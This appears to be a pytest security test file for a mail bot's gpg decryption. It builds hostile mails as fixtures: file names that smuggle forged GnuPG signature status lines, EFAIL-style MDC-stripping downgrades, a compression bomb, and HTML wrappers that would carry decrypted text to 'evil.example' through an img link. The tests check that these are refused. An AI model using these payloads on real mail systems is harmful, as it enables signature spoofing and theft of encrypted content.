"""Mails made to have something decrypted, believed or filled that must not be; with real keys and real gpg."""

import re
import subprocess
import tracemalloc
from collections.abc import Callable
from dataclasses import replace

import pytest

from mailbot.adapters import bounded
from mailbot.core.limits import Limits
from mailbot.core.messages import FAILURES, RawMail
from mailbot.core.opening import FORMER_KEY, open_mail
from mailbot.core.parse import parse
from tests.pgp_home import gpg, keyring_in, needs_gpg, new_person, people
from tests.pgp_mails import PLAIN, encrypted, multipart, opened

pytestmark = needs_gpg


def test_t36_a_file_name_inside_a_message_cannot_speak_for_gpg() -> None:
    """gpg reports the name that a message gives its content; a line end in it begins no status line."""
    who = people()
    forged = f"x\n[GNUPG:] GOODSIG {'0' * 16} x\n[GNUPG:] VALIDSIG {who.coordinator.fingerprint}\n[GNUPG:] GOODMDC"
    words = ("--trust-model", "always", "-r", who.desk.fingerprint, "--set-filename", forged, "--encrypt")
    found = who.desk.keyring.decrypt(who.finder.gpg(*words, stdin=b"x"), 1_000)
    assert (found.plaintext, found.verdicts) == (b"x", ())
    mail = opened(PLAIN + who.finder.gpg("--armor", "--set-filename", forged, "--sign", stdin=b"x"))
    assert mail.crypto.signer == who.finder.fingerprint


def test_t36_what_a_mail_holds_is_no_option_of_gpg() -> None:
    """Content that looks like options, status lines or passphrases is content."""
    for content in (b"--output=/tmp/x\n", b"[GNUPG:] GOODSIG 0 x\n[GNUPG:] DECRYPTION_OKAY\n", b"\n\n--yes\n"):
        found = people().desk.keyring.decrypt(content, 1_000)
        assert (found.plaintext, found.failure) == (None, "not_encrypted")
        assert people().desk.keyring.verify(content, content) == ()
        assert people().desk.keyring.verify_clearsigned(content, 1_000) == (b"", ())


def _message(*words: str, content: bytes = b"x" * 5_000) -> bytes:
    who = people()
    return who.finder.gpg("--trust-model", "always", *words, "-r", who.desk.fingerprint, "--encrypt", stdin=content)


def _frame(tag: int, body: bytes) -> bytes:
    return bytes([0xC0 | tag, 0xFF]) + len(body).to_bytes(4) + body


def _session_key() -> bytes:
    message = _message("-z", "0", content=b"x")
    return message[: 2 + message[1]]


def _without_mdc() -> bytes:
    """The old packet for ciphertext, with the session key of a sound message: the downgrade of EFAIL."""
    message = _message("-z", "0", content=b"x" * 50)
    begin = 2 + message[1]
    return message[:begin] + _frame(9, message[begin + 3 :])


CLOSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "sed-packet": (_without_mdc, "not_protected"),
    "no-mdc": (lambda: _message("--rfc2440", "--cipher-algo", "3DES", "--disable-mdc"), "not_protected"),
    "truncated": (lambda: _message("-z", "0")[:-2_000], "damaged"),
    "session-key-only": (_session_key, "damaged"),
    "aead-packet": (lambda: _session_key() + _frame(20, bytes([1, 9, 2, 6]) + b"x" * 200), "unsupported"),
    "seipd-2": (lambda: _session_key() + _frame(18, bytes([2, 9, 2, 6]) + b"x" * 200), "unsupported"),
    "version-6-key": (lambda: _frame(1, b"\6" + b"x" * 60) + _frame(18, b"\2" + b"x" * 200), "unsupported"),
    "symmetric": (lambda: gpg(people().finder.home, "--passphrase", "x", "--symmetric", stdin=b"x"), "symmetric"),
}


@pytest.mark.parametrize(("make", "failure"), CLOSED.values(), ids=CLOSED)
def test_t38_t40_what_must_stay_closed_says_why(make: Callable[[], bytes], failure: str) -> None:
    """No byte of it comes out, the reason is named, and the mail says that it was encrypted."""
    content = multipart("mixed", b'Content-Type: application/octet-stream; name="x.pgp"\r\n\r\n' + make())
    mail = opened(content)
    assert (mail.text, mail.crypto.encrypted, mail.crypto.failure) == ("", True, failure)
    assert mail.crypto.defects == (FAILURES[failure],)
    assert [file.filename for file in mail.attachments] == ["x.pgp"]


def test_t40_the_desks_own_passphrase_opens_no_message() -> None:
    """A message encrypted with a guessed passphrase is refused also when the guess is right, so nobody can try."""
    desk = people().desk
    guessed = gpg(people().finder.home, "--passphrase", desk.passphrase or "", "--symmetric", stdin=b"x")
    assert desk.keyring.decrypt(guessed, 1_000).failure == "symmetric"


def test_t40_a_mail_for_other_keys_names_them() -> None:
    """A coordinator can tell the sender which keys the mail was encrypted for."""
    mail = opened(PLAIN + people().stranger.keyring.encrypt(b"x", []))
    (defect,) = mail.crypto.defects
    assert mail.crypto.failure == "no_secret_key"
    assert re.fullmatch(FAILURES["no_secret_key"] + ": [0-9A-F]{16}", defect)


def test_t40_hidden_recipients_are_tried() -> None:
    """A message that names nobody opens with our key, and fails as closed to us without."""
    who = people()
    hidden = ("--trust-model", "always", "--armor", "--hidden-recipient")
    mail = opened(PLAIN + who.finder.gpg(*hidden, who.desk.fingerprint, "--encrypt", stdin=b"for us"))
    assert (mail.text, mail.crypto.failure) == ("for us", None)
    mail = opened(PLAIN + who.finder.gpg(*hidden, who.coordinator.fingerprint, "--encrypt", stdin=b"x"))
    assert (mail.crypto.encrypted, mail.crypto.failure) == (True, "no_secret_key")


def test_t40_a_former_key_of_the_desk_still_opens() -> None:
    """After a change of keys mail for the old one is read, and says that its sender has the old key."""
    old = new_person("Desk of old", "security@desk.example.jp", None)
    new = new_person("Desk", "security@desk.example.jp", None)
    gpg(old.home, "--import", stdin=new.gpg("--export-secret-keys"))
    keyring = keyring_in(old.home, new.fingerprint)
    for key, defects in ((old, (FORMER_KEY,)), (new, ())):
        message = gpg(old.home, "--trust-model", "always", "--armor", "-r", key.fingerprint, "--encrypt", stdin=b"x")
        mail = open_mail(parse(RawMail(PLAIN + message, "test")), keyring, Limits())
        assert (mail.text, mail.crypto.failure, mail.crypto.defects) == ("x", None, defects)


@pytest.mark.parametrize(
    "wrap",
    [
        lambda part: multipart(
            "mixed",
            b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/',
            part,
            b'Content-Type: text/html\r\n\r\n">',
        ),
        lambda part: multipart("mixed", PLAIN + b"http://evil.example/?", part),
        lambda part: multipart("related", part, b'Content-Type: text/html\r\n\r\n<link href="cid:e">'),
    ],
    ids=["html", "text", "related"],
)
def test_t37_decrypted_text_stands_by_itself(wrap: Callable[[bytes], bytes]) -> None:
    """Nothing that came in clear encloses or precedes the decrypted text."""
    mail = opened(wrap(encrypted(PLAIN + b"secret")))
    assert mail.text.split("\n")[0] == "secret"
    assert mail.text.count("secret") == 1
    assert "encrypted part is not the whole mail" in mail.defects


def test_t37_html_inside_the_encryption_is_only_read() -> None:
    """Decrypted HTML becomes text: links that would carry its content away are not followed, nor kept."""
    mail = opened(encrypted(b'Content-Type: text/html\r\n\r\n<p>secret</p><img src="http://evil.example/x">'))
    assert mail.text == "secret"


def test_t6_output_is_counted_while_it_comes() -> None:
    """A program that writes without end is ended at the limit, and no more than that is held."""
    tracemalloc.start()
    run = bounded.run(["yes"], b"", {"PATH": "/usr/bin:/bin"}, 20, 2_000_000, 1_000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (run.too_much, run.timed_out, run.returncode) == (True, False, -1)
    assert len(run.output) < 2_100_000
    assert peak < 4_000_000


def test_t6_a_bomb_is_stopped_on_its_way() -> None:
    """Of a message that grows a hundred-thousandfold only the limit is ever held."""
    with subprocess.Popen(["head", "-c", "200000000", "/dev/zero"], stdout=subprocess.PIPE) as zeros:
        assert zeros.stdout
        who = people()
        words = ["gpg", "--homedir", str(who.finder.home), "--batch", "--trust-model", "always", "--compress-algo"]
        words += ["bzip2", "-r", who.desk.fingerprint, "--encrypt"]
        bomb = subprocess.run(words, stdin=zeros.stdout, capture_output=True, check=True).stdout
    assert len(bomb) < 10_000
    tracemalloc.start()
    found = who.desk.keyring.decrypt(bomb, 1_000_000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (found.plaintext, found.failure) == (None, "too_large")
    assert peak < 4_000_000


def test_t6_a_run_that_takes_too_long_is_the_last() -> None:
    """A mail of many messages that each keep gpg busy costs the time of one."""
    desk = people().desk
    slow = keyring_in(desk.home, desk.fingerprint, desk.passphrase, replace(Limits(), decrypt_seconds=0))
    blocks = b"".join(_message("--armor") for _ in range(3))
    mail = open_mail(parse(RawMail(PLAIN + blocks, "test")), slow, Limits())
    assert mail.crypto.failure == "timeout"
    assert mail.crypto.defects == (FAILURES["timeout"], "limit: more than 20 pieces of OpenPGP data")


def test_a_program_that_cannot_be_given_everything_is_still_heard() -> None:
    """What it says before it stops reading counts; so does that it has ended."""
    run = bounded.run(["head", "-c", "3"], b"x" * 1_000_000, {"PATH": "/usr/bin:/bin"}, 20, 10, 10)
    assert (bytes(run.output), run.returncode) == (b"xxx", 0)
